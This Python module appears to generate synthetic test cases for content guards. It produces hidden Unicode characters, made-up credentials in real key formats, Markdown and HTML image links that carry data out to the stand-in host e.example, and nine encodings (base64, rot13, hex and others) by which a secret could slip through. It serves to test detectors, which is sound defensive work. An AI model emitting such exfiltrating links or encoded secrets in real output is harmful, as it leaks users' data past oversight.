"""What guards should find, made up (seeded): hidden characters, secrets, links that carry data out, echoes in code."""

from __future__ import annotations

import base64
import codecs
import random
from collections.abc import Callable, Sequence

HIDDEN = "\u200b\u2060\u202e\u00ad\u200d\ufe0f\U000e0041\x00\ue000"
"""Three of them are needed by scripts and emoji, and are hidden only in runs."""


def inside(rng: random.Random, text: str, piece: str) -> str:
    at = rng.randrange(len(text))
    return text[:at] + piece + text[at:]


def links(rng: random.Random, n: int) -> list[str]:
    """Images and links that carry a text of 40 characters out, in the ways that Markdown and HTML know."""
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    forms = (
        "![x](https://e.example/p.png?q={})", "[more](https://e.example/?d={})", "[more](https://e.example/{})",
        "![x](//e.example/{}.png)", '<img src="https://e.example/{}">', "[r]: https://e.example/?q={}\n![x][r]",
    )  # fmt: skip
    return [f" {forms[i % len(forms)].format(''.join(rng.choices(letters, k=40)))} " for i in range(n)]


def secrets_made_up(rng: random.Random, n: int) -> list[str]:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"

    def word(k: int, alphabet: str = letters) -> str:
        return "".join(rng.choices(alphabet, k=k))

    makers: Sequence[Callable[[], str]] = (
        lambda: "AKIA" + word(16, upper), lambda: "ghp_" + word(36), lambda: "xoxb-" + word(24),
        lambda: "sk-" + word(40), lambda: "AIza" + word(35), lambda: f"password={word(14)}",
        lambda: f"postgres://admin:{word(12)}@db.example.org/app", lambda: f"eyJ{word(20)}.eyJ{word(30)}.{word(20)}",
        lambda: f"api_key: {word(28)}", lambda: f"-----BEGIN RSA PRIVATE KEY-----\n{word(60)}\n-----END RSA PRIVATE KEY-----",  # noqa: E501
    )  # fmt: skip
    return [makers[i % len(makers)]() for i in range(n)]


def changed(rng: random.Random, text: str) -> str:
    """One word in eight replaced or left out."""
    words = text.split()
    for i in rng.sample(range(len(words)), len(words) // 8):
        words[i] = rng.choice(("", "something", "so", "then"))
    return " ".join(word for word in words if word)


ECHOES: dict[str, Callable[[random.Random, str], str]] = {
    "as it is": lambda rng, t: t,
    "capitals, a word a line": lambda rng, t: t.upper().replace(" ", "\n"),
    "letters apart": lambda rng, t: rng.choice((" ", "-", ".", "\u200b")).join(t),
    "backwards": lambda rng, t: t[::-1] if rng.random() < 0.5 else " ".join(reversed(t.split())),
    "shifted letters": lambda rng, t: codecs.encode(t, "rot13"),
    "digits for letters": lambda rng, t: t.translate(str.maketrans("eaiot", "34107")),
    "base64": lambda rng, t: base64.b64encode(t.encode()).decode(),
    "hexadecimal, binary, decimal": lambda rng, t: rng.choice((
        t.encode().hex(" "), " ".join(f"{b:08b}" for b in t.encode()), ", ".join(str(b) for b in t.encode()),
    )),
    "a word in eight changed": changed,
}  # fmt: skip
"""Ways in which a secret text comes out."""
